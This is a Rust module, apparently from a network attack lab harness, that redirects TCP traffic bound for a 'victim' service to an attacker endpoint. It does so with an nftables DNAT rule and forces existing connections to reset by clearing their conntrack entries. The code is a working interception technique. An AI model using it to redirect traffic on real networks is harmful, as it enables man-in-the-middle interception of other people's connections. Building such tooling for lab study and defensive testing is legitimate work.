//! Connections that cross the wire, led to the attacker: one nftables rule in a table that dies with it.

use std::io;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::os::fd::OwnedFd;

use ipnet::Ipv4Net;

use crate::sys::conntrack;
use crate::sys::nft::{Batch, ChainKind, Family, Hook, NftError, Protocol, Rule, priority};

/// While this lives, whoever dials `victim` through this host reaches the attacker.
pub struct Redirect {
    from: Option<Ipv4Addr>,
    victim: SocketAddrV4,
    _table: OwnedFd,
}

/// Leads connections for `victim` to `here`, from now on and for those that are open.
pub fn redirect(victim: SocketAddrV4, here: SocketAddrV4) -> Result<Redirect, NftError> {
    lead(None, victim, here)
}

/// The same for who dials from one address alone.
pub fn redirect_from(from: Ipv4Addr, victim: SocketAddrV4, here: SocketAddrV4) -> Result<Redirect, NftError> {
    lead(Some(from), victim, here)
}

fn lead(from: Option<Ipv4Addr>, victim: SocketAddrV4, here: SocketAddrV4) -> Result<Redirect, NftError> {
    // Two attackers at once are two tables.
    let mut batch = Batch::owned(Family::Ip, &format!("attacker-{}", std::process::id()));
    // Before wire's own doors.
    batch.base_chain("prerouting", ChainKind::Nat, Hook::Prerouting, priority::DSTNAT - 1);
    let rule = from.map_or_else(Rule::new, |from| Rule::new().source(Ipv4Net::from(from)));
    let rule = rule.destination(Ipv4Net::from(*victim.ip())).destination_port(Protocol::Tcp, victim.port());
    batch.rule("prerouting", &rule.dnat(*here.ip(), here.port()));
    let table = batch.commit_owned()?;
    let redirect = Redirect { from, victim, _table: table };
    redirect.forget();
    Ok(redirect)
}

impl Redirect {
    /// Flows towards the victim lose their entry: their next packet is judged anew, and who gets it knows no
    /// such connection and resets it, so that clients dial again.
    fn forget(&self) {
        let Ok(flows) = conntrack::flows() else { return };
        let ours = |flow: &&conntrack::Flow| {
            flow.original.destination == (*self.victim.ip(), self.victim.port())
                && self.from.is_none_or(|from| flow.original.source.0 == from)
        };
        for flow in flows.iter().filter(ours) {
            let _: io::Result<()> = conntrack::forget(flow);
        }
    }
}

impl Drop for Redirect {
    fn drop(&mut self) {
        self.forget();
    }
}

/// The address of this host that a victim's packets can be sent to.
pub fn standing() -> Ipv4Addr {
    crate::lab::plan::BALANCER
}
